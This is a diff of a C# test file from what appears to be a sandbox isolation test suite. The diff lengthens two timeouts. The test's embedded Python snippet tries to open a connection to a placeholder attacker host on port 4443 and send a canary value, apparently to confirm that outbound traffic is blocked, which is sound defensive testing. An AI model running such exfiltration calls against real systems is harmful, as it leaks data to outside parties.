@@ -38,7 +38,7 @@ public sealed class SilentFilesTests(LabFixture fixture) : KernelTest(fixture), 
 
         """;
 
-    private static readonly TimeSpan s_soon = TimeSpan.FromSeconds(15);
+    private static readonly TimeSpan s_soon = TimeSpan.FromSeconds(60);
 
     [Theory]
     [EveryMode]
@@ -50,7 +50,7 @@ public sealed class SilentFilesTests(LabFixture fixture) : KernelTest(fixture), 
         LabRun run = await RunAsync(mode, $"/run/lab/work/{Canary}/silent", "40000", $"""
             end([attempt(lambda: socket.socket(socket.AF_UNIX).connect(where + f'/{"{number}"}')) for number in range({Many})])
             try:
-                socket.create_connection(('{Attacker}', 4443), timeout=3).sendall(b'{Canary}')
+                socket.create_connection(('{Attacker}', 4443), timeout=30).sendall(b'{Canary}')
             except OSError as e:
                 print(e.strerror)
             """);
